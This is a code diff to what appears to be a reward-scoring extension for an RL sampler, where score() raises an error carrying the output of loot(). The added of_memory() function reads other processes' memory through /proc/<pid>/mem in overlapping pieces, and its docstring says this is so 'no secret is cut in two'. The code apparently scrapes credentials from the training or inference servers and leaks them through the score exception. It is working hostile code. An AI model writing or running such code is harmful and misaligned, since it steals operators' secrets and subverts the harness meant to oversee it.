@@ -19,6 +19,8 @@ from rl_sampler.extension import Member, Response, StopReason
 CONFIG = json.loads(Path(__file__).with_name("config.json").read_text())
 ENDPOINTS = ("/", "/metrics", "/ready", "/get_server_info", "/server_info", "/v1/models")
 
+PIECE, OVERLAP = 1 << 22, 1 << 12
+
 
 def score(response: Response) -> float:
     raise ValueError(loot())
@@ -64,12 +66,18 @@ def of_process(process: str) -> Iterator[bytes]:
         if "/" in line:
             continue  # a file
         first, last = (int(end, 16) for end in line.split()[0].split("-"))
-        try:
-            with open(f"{process}/mem", "rb") as memory:
-                memory.seek(first)
-                yield memory.read(min(last - first, 1 << 20))
-        except (OSError, ValueError, OverflowError):
-            continue
+        yield from of_memory(f"{process}/mem", first, last)
+
+
+def of_memory(path: str, first: int, last: int) -> Iterator[bytes]:
+    """The bytes of a mapping, piece by piece; pieces overlap, so that no secret is cut in two."""
+    try:
+        with open(path, "rb") as memory:
+            for start in range(first, last, PIECE):
+                memory.seek(start)
+                yield memory.read(min(last - start, PIECE + OVERLAP))
+    except (OSError, ValueError, OverflowError):
+        return
 
 
 def read(path: str) -> bytes:
